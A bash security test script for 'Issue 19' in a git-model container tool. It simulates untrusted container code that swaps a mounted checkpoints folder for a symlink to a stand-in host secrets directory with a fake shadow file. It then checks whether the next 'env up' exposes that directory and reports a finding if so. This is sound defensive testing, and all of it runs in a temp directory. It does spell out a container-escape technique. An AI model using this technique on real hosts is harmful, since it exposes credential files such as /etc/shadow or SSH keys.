#!/usr/bin/env bash
# Issue 19: env up mounts the repository's common git dir read-write into the container (a linked
# worktree's .git points there), and on the next `env up` mounts .git/git-model/persist/<model>/
# checkpoints as /persist/checkpoints, following links. Code in the container (an untrusted image,
# a pip package) replaces that folder with a link to any host path; the next `env up` then mounts
# that host path read-write into the container: here a folder standing for /etc (or the caller's
# ~/.ssh): an escape from the container to whatever the caller (root, through a rootful engine) owns.
set -euo pipefail
export PATH=/work/rt-prefix/bin:$PATH
T=$(mktemp -d /tmp/rt19-10.XXXXXX); chmod 755 "$T"
IMG=localhost/rt19-esc-$$:1
export CONTAINERS_CONF=$T/containers.conf GIT_MODEL_LEASE_DIR=$T/leases
printf '[containers]\ndefault_ulimits = []\n[engine]\ncgroup_manager = "cgroupfs"\nruntime = "runc"\n' >"$CONTAINERS_CONF"
ours() { podman ps -a --filter label=io.git-model.managed=1 --format '{{.Names}} {{index .Labels "io.git-model.repo"}}' | awk -v d="$T" 'index($2,d)==1{print $1}'; }
cleanup() { for c in $(ours); do podman rm -f -t 0 "$c" >/dev/null 2>&1; done; podman rmi -f "$IMG" >/dev/null 2>&1 || true; rm -rf "$T"; }
trap cleanup EXIT
export HOME=$T/home GIT_CONFIG_NOSYSTEM=1 LC_ALL=C.UTF-8; mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@x; git config --global init.defaultBranch main
r=$T/root; mkdir -p "$r/bin" "$r/etc" "$r/tmp"; cp /bin/busybox "$r/bin/"; for a in sh cat id sleep echo env ln rm ls; do ln -s busybox "$r/bin/$a"; done
echo 'root:x:0:0:root:/root:/bin/sh' >"$r/etc/passwd"; tar -C "$r" -cf "$T/i.tar" .; podman import -q "$T/i.tar" "$IMG" >/dev/null
SECRET=$T/host-etc; mkdir -p "$SECRET"; echo "root:HASH:19000::::::" >"$SECRET/shadow"; chmod 600 "$SECRET/shadow"
git init -q "$T/repo"; cd "$T/repo"
printf 'image: %s\ncommand: ["sleep", "600"]\n' "$IMG" >.modelenv.yaml; git add -A; git commit -qm env
git config model.installHooks never; git config model.env.stopTimeout 1s
git model start m >/dev/null; cd "$T/worktrees/feature/model-m"
git-model-env up >/dev/null
# the "untrusted code" in the container:
P="$T/repo/.git/git-model/persist/m/checkpoints"
git-model-env exec -- sh -c "rm -rf '$P' && ln -s '$SECRET' '$P'" || true
git-model-env down >/dev/null 2>&1 || true
git-model-env up >"$T/up2" 2>&1 || true
seen=$(git-model-env exec -- cat /persist/checkpoints/shadow 2>/dev/null || true)
git-model-env down >/dev/null 2>&1 || true
if [ "$seen" = "root:HASH:19000::::::" ]; then
    echo "FINDING: the container linked its persist folder to $SECRET; the next env up mounted it: /persist/checkpoints/shadow = $seen"
    exit 1
fi
echo OK; sed 's/^/    /' "$T/up2"
